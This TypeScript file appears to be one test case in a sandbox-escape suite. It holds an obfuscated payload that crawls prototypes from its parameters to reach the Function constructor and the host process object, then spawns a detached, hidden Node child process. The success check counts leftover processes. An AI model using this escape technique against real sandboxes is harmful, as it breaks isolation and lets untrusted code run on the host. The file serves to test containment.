import { controllerSource } from "../../controller-source.ts";
import type { Attack } from "../attack.ts";

export const attack: Attack = {
  title: "tries whatever it can reach from its parameters for a function that makes code",
  heldBy: "child",
  source: controllerSource(
    `const key = ["con", "structor"].join("");
    const code = \`return typeof pro\\u0063ess === "undefined" ? undefined : pro\\u0063ess\`;
    const pending: any[] = [question, knobs, tally, majority, rises];
    const seen = new Set();
    while (pending.length > 0) {
      const at = pending.pop();
      if ((typeof at !== "object" && typeof at !== "function") || at === null || seen.has(at)) continue;
      seen.add(at);
      pending.push(Object.getPrototypeOf(at));
      const names: PropertyKey[] = Object.getOwnPropertyNames(at);
      for (const name of [...names, ...Object.getOwnPropertySymbols(at)]) {
        const { value, get, set } = Object.getOwnPropertyDescriptor(at, name)!;
        pending.push(typeof value === "symbol" ? (value as any)[key] : value, get, set);
      }
      if (at.name !== ["Func", "tion"].join("")) continue;
      const { execPath, getBuiltinModule } = at(code)();
      const wait = ["-e", "setInterval(() => {}, 60_000)", "%FORGED_FILE%"];
      getBuiltinModule("child_" + "pro" + "cess").spawn(execPath, wait, { detached: true, stdio: "ignore" }).unref();
      break;
    }`,
  ),
  succeeded: ({ touched }) => touched.leftProcesses > 0,
};
